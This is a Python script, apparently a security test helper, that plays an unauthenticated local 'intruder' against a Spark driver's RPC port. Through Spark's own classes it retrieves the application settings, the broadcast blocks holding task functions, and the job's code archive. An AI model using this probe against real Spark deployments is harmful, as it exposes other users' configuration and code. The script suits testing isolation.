"""What a process without a secret gets from a Spark driver, asked with Spark's own classes.

    intruder PORT    PORT is that of the driver's RPC

It prints JSON: what was got, or the error of Spark. It needs no right on the machine but to connect.

    settings    all of Spark's settings, as an executor gets them that has just started
    functions   the functions of the tasks, with all that they hold, in hexadecimal
    file        the archive with the code, by the name that the functions hold, in hexadecimal
"""

import json
import re
import sys
import threading
from collections.abc import Callable
from typing import Any

from pyspark.java_gateway import ensure_callback_server_started, launch_gateway

HOST = "127.0.0.1"
ARCHIVE = re.compile(rb"lockgate-[0-9a-f]{32}\.zip")
BROADCASTS = 20
"""So many numbers of broadcasts are tried: Spark counts them from 0."""


class Listener:
    """Gets a block, or why there is none."""

    def __init__(self) -> None:
        self.is_over, self.block, self.error = threading.Event(), b"", ""

    def onBlockFetchSuccess(self, name: str, buffer: Any) -> None:  # noqa: N802 - Spark's own names
        self.block = bytes(buffer.createInputStream().readAllBytes())
        self.is_over.set()

    def onBlockFetchFailure(self, name: str, error: Any) -> None:  # noqa: N802
        self.error = str(error)
        self.is_over.set()

    def onBlockTransferSuccess(self, name: str, buffer: Any) -> None:  # noqa: N802
        self.onBlockFetchSuccess(name, buffer)

    def onBlockTransferFailure(self, name: str, error: Any) -> None:  # noqa: N802
        self.onBlockFetchFailure(name, error)

    def getTransferType(self) -> str:  # noqa: N802
        return "fetch"

    class Java:
        implements = ["org.apache.spark.network.shuffle.BlockFetchingListener"]  # noqa: RUF012


class Intruder:
    """A process of another user, with Spark's jars and nothing else."""

    def __init__(self, port: int) -> None:
        gateway = launch_gateway()  # type: ignore[no-untyped-call]
        ensure_callback_server_started(gateway)  # type: ignore[no-untyped-call]
        self.jvm: Any = gateway.jvm
        self.port = port
        spark = self.jvm.org.apache.spark
        self.conf = spark.SparkConf(False).set("spark.rpc.askTimeout", "20s").set("spark.rpc.lookupTimeout", "20s")
        none = self.jvm.scala.Option.empty()
        by_default = getattr(spark.SecurityManager, "$lessinit$greater$default$3")()
        self.manager = spark.SecurityManager(self.conf, none, by_default)
        self.rpc = self.module("org.apache.spark.rpc.RpcEnv").create("intruder", HOST, 0, self.conf, self.manager, True)

    def module(self, name: str) -> Any:
        """An object of Scala."""
        return self.jvm.java.lang.Class.forName(f"{name}$").getField("MODULE$").get(None)

    def ask(self, endpoint: str, message: Any, kind: str) -> Any:
        """The answer of the driver."""
        address = self.jvm.org.apache.spark.rpc.RpcAddress(HOST, self.port)
        tag = self.module("scala.reflect.ClassTag").apply(self.jvm.java.lang.Class.forName(kind))
        return self.rpc.setupEndpointRef(address, endpoint).askSync(message, tag)

    def settings(self) -> dict[str, str]:
        messages = "org.apache.spark.scheduler.cluster.CoarseGrainedClusterMessages"
        begin = getattr(
            self.jvm.org.apache.spark.scheduler.cluster, "CoarseGrainedClusterMessages$RetrieveSparkAppConfig"
        )(0)
        found = self.ask("CoarseGrainedScheduler", begin, f"{messages}$SparkAppConfig").sparkProperties()
        return {found.apply(at)._1(): found.apply(at)._2() for at in range(found.size())}

    def file(self, name: str) -> str:
        channel = self.rpc.openChannel(f"spark://{HOST}:{self.port}/files/{name}")
        return bytes(self.jvm.java.nio.channels.Channels.newInputStream(channel).readAllBytes()).hex()

    def functions(self) -> str:
        message = self.module("org.apache.spark.storage.BlockManagerMessages$GetMemoryStatus")
        managers = self.ask("BlockManagerMaster", message, "scala.collection.Map").keys().toSeq()
        ids = [managers.apply(at) for at in range(managers.size())]
        (driver,) = [one for one in ids if one.isDriver()]
        network = self.jvm.org.apache.spark.network
        none = self.jvm.scala.Option.empty()
        transport = network.netty.SparkTransportConf.fromSparkConf(self.conf, "shuffle", 1, none, none)
        store = network.shuffle.ExternalBlockStoreClient(transport, self.manager, False, 20_000)
        store.init("intruder")
        codec = self.jvm.org.apache.spark.io.CompressionCodec.createCodec(self.conf)
        got, errors = [], []
        for number in range(BROADCASTS):
            listener = Listener()
            names = self.jvm.java.lang.reflect.Array.newInstance(
                self.jvm.java.lang.Class.forName("java.lang.String"), 1
            )
            names[0] = f"broadcast_{number}_piece0"
            store.fetchBlocks(driver.host(), driver.port(), "driver", names, listener, None)
            assert listener.is_over.wait(60)
            if listener.block:
                stream = self.jvm.java.io.ByteArrayInputStream(bytearray(listener.block))
                got.append(bytes(codec.compressedInputStream(stream).readAllBytes()))
            else:
                errors.append(listener.error)
        if not got:
            raise RuntimeError(errors[0])
        return b"".join(got).hex()


def attempt(what: Callable[[], Any]) -> dict[str, Any]:
    try:
        return {"got": what()}
    except Exception as error:  # noqa: BLE001 - this is the result
        return {"error": str(error)}


def main(port: int) -> None:
    intruder = Intruder(port)
    found = {"settings": attempt(intruder.settings), "functions": attempt(intruder.functions)}
    names = ARCHIVE.findall(bytes.fromhex(found["functions"].get("got", "")))
    found["file"] = attempt(lambda: intruder.file(names[0].decode()))
    print(json.dumps(found))


if __name__ == "__main__":
    main(int(sys.argv[1]))
